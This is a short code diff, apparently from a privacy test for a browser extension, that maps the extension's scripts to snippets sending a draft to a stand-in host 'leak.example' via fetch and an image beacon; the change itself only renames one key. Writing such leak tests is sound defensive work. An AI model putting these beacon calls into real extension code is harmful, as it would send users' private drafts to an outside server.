@@ -10,7 +10,7 @@ import { pages } from './server';
 const LEAK = 'leak.example';
 /** The parts of the extension that run on their own, and how each of them would let a draft out. */
 const LEAKS = {
-  'content-scripts/composer.js': `fetch('https://${LEAK}/waiting', { mode: 'no-cors' });`,
+  'composer.js': `fetch('https://${LEAK}/waiting', { mode: 'no-cors' });`,
   'coach.js': `new Image().src = 'https://${LEAK}/coach';`,
   'background.js': `fetch('https://${LEAK}/background', { mode: 'no-cors' });`,
 };
